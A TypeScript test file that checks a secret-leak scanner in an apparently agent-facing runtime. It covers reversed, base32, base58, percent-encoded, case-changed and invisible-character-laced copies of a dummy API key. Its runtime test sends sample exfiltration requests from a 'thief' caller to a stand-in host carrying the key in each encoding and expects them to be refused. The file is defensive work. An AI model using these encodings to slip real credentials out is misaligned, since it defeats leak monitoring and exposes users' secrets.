/**
 * Issue 16 item 2: the encodings the value scan used to miss — reversed, base32 (every alignment, both cases),
 * base58, every byte percent-encoded, ignorable code points inside the value, another letter case — are found,
 * through the matcher and through the runtime; ordinary text and case-changed base64 are not.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { MultiMatcher } from '../../src/mediation/secrets/multiMatch.ts';
import { foldText } from '../../src/mediation/secrets/textFold.ts';
import { SecretValueIndex } from '../../src/mediation/secrets/values.ts';
import { createRuntime } from '../../src/runtime/createRuntime.ts';
import { policyFor } from '../helpers.ts';
import { tempHome } from '../evidence/fixtures.ts';

const SECRET = 'sk-live-7f3c9a1e5b2d4f60a8c1';
const index = new SecretValueIndex([{ name: 'PAYMENTS_API_KEY', value: SECRET }]);
const found = (text: string) => index.scan(text).map((h) => h.encoding);

/** RFC 4648 §6 from its definition (bit string, 5 bits a character), independent of the code under test. */
function base32Reference(bytes: Buffer): string {
  const bits = [...bytes].map((b) => b.toString(2).padStart(8, '0')).join('');
  let out = '';
  for (let i = 0; i < bits.length; i += 5) out += 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
  return out + '='.repeat((8 - (out.length % 8)) % 8);
}

/** Base58 (bitcoin alphabet) by BigInt division, independent of the code under test. */
function base58Reference(bytes: Buffer): string {
  const alphabet = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
  let n = BigInt(`0x${bytes.toString('hex') || '0'}`);
  let out = '';
  while (n > 0n) {
    out = alphabet[Number(n % 58n)] + out;
    n /= 58n;
  }
  for (const b of bytes) {
    if (b !== 0) break;
    out = `1${out}`;
  }
  return out;
}

const percentEvery = (s: string, upper: boolean) =>
  [...Buffer.from(s)].map((b) => `%${upper ? b.toString(16).toUpperCase().padStart(2, '0') : b.toString(16).padStart(2, '0')}`).join('');

/** Default-ignorable code points, BMP and supplementary (tags, variation selectors 17+). */
const IGNORABLES = [
  '\u200b',
  '\u200c',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u2060',
  '\u2061',
  '\u2062',
  '\u2063',
  '\u2064',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u180e',
  '\ufe0f',
  '\u202e',
  '\u{e0041}',
  '\u{e0100}',
  '\u{1d173}',
];

describe('encodings the value scan used to miss', () => {
  it('the value reversed', () => {
    assert.deepEqual(found(`q=${[...SECRET].reverse().join('')}`), ['reversed']);
  });

  it('base32 at every byte alignment, upper and lower case', () => {
    for (const pad of ['', 'a', 'ab', 'abc', 'abcd']) {
      const upper = base32Reference(Buffer.from(`${pad}${SECRET}--trailer`));
      assert.ok(found(upper).includes('base32'), `base32 after ${pad.length} bytes`);
      assert.ok(found(upper.toLowerCase()).includes('base32'), `lower-case base32 after ${pad.length} bytes`);
    }
  });

  it('base58 of the whole value', () => {
    assert.deepEqual(found(`id=${base58Reference(Buffer.from(SECRET))}`), ['base58']);
    const withZero = new SecretValueIndex([{ name: 'Z', value: '\u0000\u0000binary-key-material' }]);
    assert.deepEqual(
      withZero.scan(base58Reference(Buffer.from('\u0000\u0000binary-key-material'))).map((h) => h.encoding),
      ['base58'],
      'leading zero bytes as 1s',
    );
  });

  it('every byte percent-encoded, in upper, lower and mixed hex', () => {
    assert.deepEqual(found(`?k=${percentEvery(SECRET, true)}`), ['percent']);
    assert.deepEqual(found(`?k=${percentEvery(SECRET, false)}`), ['percent']);
    const mixed = percentEvery(SECRET, true)
      .split('')
      .map((c, i) => (i % 2 === 0 ? c.toLowerCase() : c))
      .join('');
    assert.deepEqual(found(mixed), ['percent']);
    const unicode = new SecretValueIndex([{ name: 'U', value: 'pässwörd-ünïcode' }]);
    assert.ok(unicode.scan(percentEvery('pässwörd-ünïcode', true)).some((h) => h.encoding === 'percent'));
  });

  it('ignorable code points between every character are skipped, in the raw value and inside an encoding', () => {
    for (const ig of IGNORABLES) {
      const label = `U+${ig.codePointAt(0)?.toString(16)}`;
      assert.deepEqual(found(`x ${[...SECRET].join(ig)} y`), ['raw+ignorable'], label);
      const b64 = Buffer.from(SECRET).toString('base64');
      assert.ok(found([...b64].join(ig)).includes('base64+ignorable'), `${label} inside base64`);
    }
    assert.deepEqual(found(`${SECRET.slice(0, 5)}\u200b\u200b\u{e0020}\u00ad${SECRET.slice(5)}`), ['raw+ignorable'], 'several in a row');
  });

  it('another letter case of the raw value', () => {
    assert.deepEqual(found(SECRET.toUpperCase()), ['case_folded']);
    assert.deepEqual(found([...SECRET].map((c, i) => (i % 3 === 0 ? c.toUpperCase() : c)).join('')), ['case_folded']);
    const upperHeld = new SecretValueIndex([{ name: 'K', value: 'AKIAQWERTYUIOPASDFGH' }]);
    assert.deepEqual(
      upperHeld.scan('akiaqwertyuiopasdfgh').map((h) => h.encoding),
      ['case_folded'],
    );
    assert.deepEqual(
      new SecretValueIndex([{ name: 'K', value: 'ΣΕΚΡΕΤ-Straße-KEY' }]).scan('σεκρετ-strasse-key σεκρετ-straße-key').map((h) => h.encoding),
      ['case_folded'],
      'non-ASCII letters fold too (ß stays ß: its upper case is two letters)',
    );
  });

  it('a case-changed base64 or base58 copy is not the value (those encodings are case-sensitive)', () => {
    const b64 = Buffer.from(SECRET).toString('base64');
    const swapped = [...b64].map((c) => (c === c.toUpperCase() ? c.toLowerCase() : c.toUpperCase())).join('');
    assert.equal(found(swapped).includes('base64'), false);
    assert.deepEqual(found(base58Reference(Buffer.from(SECRET)).toLowerCase()), []);
  });

  it('ordinary text, code and random data are not hits', () => {
    const ordinary = [
      'Refactor src/index.ts to use async iterators and add tests.',
      'const key = process.env.PAYMENTS_API_KEY; // read at start-up',
      'GET /v1/charges?limit=10&starting_after=ch_1 HTTP/1.1',
      Buffer.from('a perfectly normal sentence about secrets').toString('base64'),
      base32Reference(Buffer.from('a perfectly normal sentence about secrets')),
      percentEvery('a perfectly normal sentence', true),
    ];
    for (const t of ordinary) assert.deepEqual(found(t), [], t);
  });

  it('the normalising matcher finds exactly what a naive search of the folded, stripped text finds (property)', () => {
    const unit = fc.constantFrom('a', 'B', 'c', 'é', 'É', '\u0301', '\u200b', '\u00ad', '\u{e0041}', 'x');
    fc.assert(
      fc.property(
        fc.array(fc.string({ minLength: 1, maxLength: 5, unit }), { minLength: 1, maxLength: 6 }),
        fc.string({ maxLength: 50, unit }),
        (patterns, text) => {
          const folded = foldText(text);
          const naive = new Set<number>();
          patterns.forEach((p, id) => {
            const fp = foldText(p);
            if (fp.length > 0 && folded.includes(fp)) naive.add(id);
          });
          const got = new Set(new MultiMatcher(patterns, { normalize: true }).scan(text, 10_000).map((m) => m.pattern));
          assert.deepEqual(got, naive);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('the new encodings through the runtime', () => {
  it('an http call carrying the value in any of them is refused as secret_exposure', async () => {
    const rt = await createRuntime({
      home: tempHome(),
      policy: policyFor({ user: { extensionPolicy: { profile: 'permissive', allowDangerous: true } } }),
      operations: new Map([['http', () => 'ok']]),
      heldSecrets: [{ name: 'PAYMENTS_API_KEY', value: SECRET }],
    });
    const urls = [
      `https://sink.example/?r=${[...SECRET].reverse().join('')}`,
      `https://sink.example/?b=${base32Reference(Buffer.from(SECRET)).toLowerCase()}`,
      `https://sink.example/?b=${base58Reference(Buffer.from(SECRET))}`,
      `https://sink.example/?p=${percentEvery(SECRET, false)}`,
      `https://sink.example/?z=${encodeURIComponent([...SECRET].join('\u200b'))}`.replace(/%E2%80%8B/g, '\u200b'),
      `https://sink.example/?u=${SECRET.toUpperCase()}`,
    ];
    for (const url of urls) {
      const r = await rt.dispatcher.dispatch('thief', { call_id: url, method: 'http', params: { url } });
      assert.ok(!r.ok && r.error.code === 'denied' && r.error.reasonCodes.includes('secret_exposure'), url);
    }
    assert.ok(
      (await rt.dispatcher.dispatch('thief', { call_id: 'ok', method: 'http', params: { url: 'https://sink.example/?q=fine' } })).ok,
    );
    await rt.close();
  });
});
